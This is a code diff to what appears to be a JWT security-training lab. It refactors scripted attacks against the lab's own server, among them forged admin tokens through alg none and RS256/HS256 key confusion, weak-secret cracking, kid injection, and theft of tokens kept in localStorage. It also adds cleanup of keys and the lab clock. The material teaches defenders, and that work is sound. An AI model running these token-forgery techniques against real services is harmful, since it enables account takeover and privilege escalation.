@@ -6,59 +6,45 @@ import {
   publicKeyPem,
   signHs256,
   signWithPublicKeyText,
-  type CrackProgress,
-} from '../../../common/jwt-inspect';
-import type { ToggleName } from '../../../common/toggles';
-import { LOCAL_STORAGE_KEY, exchange, raceRefresh } from './jwt-slice';
+} from '../../../../common/jwt-inspect';
+import { exchange } from '../../api/client';
+import type { AttackContext, AttackResult } from '../../components/attack-catalogue';
+import { LOCAL_STORAGE_KEY, raceRefresh } from './jwt-slice';
 
 export type JwtAttackId =
   'algNone' | 'keyConfusion' | 'weakSecret' | 'kidInjection' | 'noVerify' | 'refreshReuse' | 'localStorage' | 'longTtl';
 
-export interface AttackOutcome {
-  /** True when the attacker got what they wanted. */
-  succeeded: boolean;
-  summary: string;
-  steps: string[];
+/** The demo user every JWT attack signs in as (the victim). */
+function victimAccount(ctx: AttackContext) {
+  const user = ctx.get().accounts.find((a) => a.role === 'user' && !a.mfa);
+  if (!user) throw new Error('The demo user account is not loaded yet.');
+  return user;
 }
 
-export interface AttackContext {
-  userEmail: string;
-  userPassword: string;
-  progress: (p: CrackProgress) => void;
-  advanceClock: (ms: number) => Promise<void>;
-  resetClock: () => Promise<void>;
-  /** The lab client's own login, so storage follows the client's rules (memory vs localStorage). */
-  clientLogin: () => Promise<void>;
+/** The family of public key an access-token algorithm uses, in words. */
+export function keyKind(alg: string | undefined): string {
+  if (alg?.startsWith('RS') || alg?.startsWith('PS')) return 'RSA';
+  if (alg?.startsWith('ES')) return 'EC';
+  if (alg === 'EdDSA') return 'Ed25519';
+  return 'asymmetric';
 }
-
-export const ATTACK_TOGGLES: Record<JwtAttackId, ToggleName> = {
-  algNone: 'jwt.algorithmAllowList',
-  keyConfusion: 'jwt.algorithmAllowList',
-  weakSecret: 'jwt.strongSecret',
-  kidInjection: 'jwt.kidSanitizing',
-  noVerify: 'jwt.verifySignature',
-  refreshReuse: 'jwt.refreshReuseDetection',
-  localStorage: 'jwt.storeInLocalStorage',
-  longTtl: 'jwt.shortAccessTtl',
-};
 
 const utf8 = (text: string) => new TextEncoder().encode(text);
 
 async function victimToken(ctx: AttackContext, steps: string[]) {
-  const login = await exchange('POST', '/api/jwt/login', {
-    body: { email: ctx.userEmail, password: ctx.userPassword },
-  });
+  const user = victimAccount(ctx);
+  const login = await exchange('POST', '/api/jwt/login', { body: { email: user.email, password: user.password } });
   const token = (login.body as { accessToken?: string }).accessToken;
-  if (login.status !== 200 || !token) throw new Error(`Could not sign in as ${ctx.userEmail} (${login.status}).`);
+  if (login.status !== 200 || !token) throw new Error(`Could not sign in as ${user.email} (${login.status}).`);
   const decoded = decodeToken(token);
   if (!decoded.ok) throw new Error(decoded.error);
   steps.push(
-    `Signed in as ${ctx.userEmail}: a ${String(decoded.token.header.alg)} token with role "${String(decoded.token.payload.role)}".`,
+    `Signed in as ${user.email}: a ${String(decoded.token.header.alg)} token with role "${String(decoded.token.payload.role)}".`,
   );
   return { token, header: decoded.token.header, payload: decoded.token.payload };
 }
 
-async function tryAdmin(forged: string, steps: string[]): Promise<AttackOutcome> {
+async function tryAdmin(forged: string, steps: string[]): Promise<AttackResult> {
   const res = await exchange('GET', '/api/jwt/admin', { token: forged });
   const error = (res.body as { error?: string } | null)?.error;
   steps.push(`GET /api/jwt/admin with the forged token → ${res.status}${error ? ` ${error}` : ''}.`);
@@ -85,17 +71,21 @@ async function ensureAccessAlgorithm(
   return current?.alg ?? null;
 }
 
-/** Puts the lab back on the algorithm it used before the attack, so other labs see their usual tokens. */
+/**
+ * Puts the lab back on the algorithm it used before the attack, so other labs
+ * see their usual tokens. The attack's own key is dropped at once (a
+ * "compromised" rotation), so no attack key, weak or not, is left verifying.
+ */
 async function restoreAccessAlgorithm(previous: string | null, steps: string[]): Promise<void> {
   if (!previous) return;
-  await exchange('POST', '/api/jwt/keys/rotate', { body: { alg: previous } });
+  await exchange('POST', '/api/jwt/keys/rotate', { body: { alg: previous, compromised: true } });
   steps.push(
-    `Rotated the lab back to a ${previous} key; tokens signed during the attack still verify until they expire.`,
+    `Rotated the lab back to a ${previous} key and dropped the key made for the attack; the key you signed in with still verifies your token.`,
   );
 }
 
 /** Each attack talks to the real lab server, exactly as an attacker's script would. */
-export const ATTACKS: Record<JwtAttackId, (ctx: AttackContext) => Promise<AttackOutcome>> = {
+export const ATTACKS: Record<JwtAttackId, (ctx: AttackContext) => Promise<AttackResult>> = {
   algNone: async (ctx) => {
     const steps: string[] = [];
     const { header, payload } = await victimToken(ctx, steps);
@@ -105,16 +95,21 @@ export const ATTACKS: Record<JwtAttackId, (ctx: AttackContext) => Promise<Attack
   },
   keyConfusion: async (ctx) => {
     const steps: string[] = [];
-    await ensureAccessAlgorithm((alg) => alg !== 'HS256', 'RS256', steps);
-    const { header, payload } = await victimToken(ctx, steps);
-    const jwks = await exchange('GET', '/.well-known/jwks.json');
-    const pem = await publicKeyPem({ kind: 'jwks', json: JSON.stringify(jwks.body) }, header.kid);
-    steps.push(
-      `Downloaded the public key for kid ${String(header.kid)} from /.well-known/jwks.json and turned it into PEM.`,
-    );
-    const forged = await signWithPublicKeyText({ ...header }, { ...payload, role: 'admin' }, pem);
-    steps.push('Signed role "admin" with HS256, using the public PEM text as the HMAC secret.');
-    return tryAdmin(forged, steps);
+    // An HMAC key has no public half to confuse: borrow an RS256 key for the attack, then go back.
+    const previous = await ensureAccessAlgorithm((alg) => alg !== 'HS256', 'RS256', steps);
+    try {
+      const { header, payload } = await victimToken(ctx, steps);
+      const jwks = await exchange('GET', '/.well-known/jwks.json');
+      const pem = await publicKeyPem({ kind: 'jwks', json: JSON.stringify(jwks.body) }, header.kid);
+      steps.push(
+        `Downloaded the public ${keyKind(String(header.alg))} key for kid ${String(header.kid)} from /.well-known/jwks.json and turned it into PEM.`,
+      );
+      const forged = await signWithPublicKeyText({ ...header }, { ...payload, role: 'admin' }, pem);
+      steps.push('Signed role "admin" with HS256, using the public PEM text as the HMAC secret.');
+      return await tryAdmin(forged, steps);
+    } finally {
+      await restoreAccessAlgorithm(previous, steps);
+    }
   },
   weakSecret: async (ctx) => {
     const steps: string[] = [];
@@ -171,7 +166,8 @@ export const ATTACKS: Record<JwtAttackId, (ctx: AttackContext) => Promise<Attack
   },
   localStorage: async (ctx) => {
     const steps: string[] = [];
-    await ctx.clientLogin();
+    const user = victimAccount(ctx);
+    await ctx.get().jwtLogin(user.email, user.password, false);
     steps.push('The lab client signed in and stored its access token by its own rules.');
     // This is all an injected <script> needs: it runs with the page's origin.
     const stolen = window.localStorage.getItem(LOCAL_STORAGE_KEY);
@@ -188,7 +184,8 @@ export const ATTACKS: Record<JwtAttackId, (ctx: AttackContext) => Promise<Attack
     const steps: string[] = [];
     const { token } = await victimToken(ctx, steps);
     steps.push('An attacker copies the access token, then waits a day (lab clock +1 day).');
-    await ctx.advanceClock(24 * 3600_000);
+    const offsetBefore = ctx.get().meta?.clock.offsetMs ?? 0;
+    await ctx.get().advanceClock(24 * 3600_000);
     try {
       const res = await exchange('GET', '/api/jwt/me', { token });
       const error = (res.body as { error?: string } | null)?.error;
@@ -197,8 +194,10 @@ export const ATTACKS: Record<JwtAttackId, (ctx: AttackContext) => Promise<Attack
         ? { succeeded: true, summary: 'A day later the stolen token still works.', steps }
         : { succeeded: false, summary: 'The stolen token had already expired.', steps };
     } finally {
-      await ctx.resetClock();
-      steps.push('Lab clock back to real time.');
+      // The clock only moves forward or back to real time: go back, then forward to where it was.
+      await ctx.get().resetClock();
+      if (offsetBefore > 0) await ctx.get().advanceClock(offsetBefore);
+      steps.push('Lab clock back where it was before the attack.');
     }
   },
 };
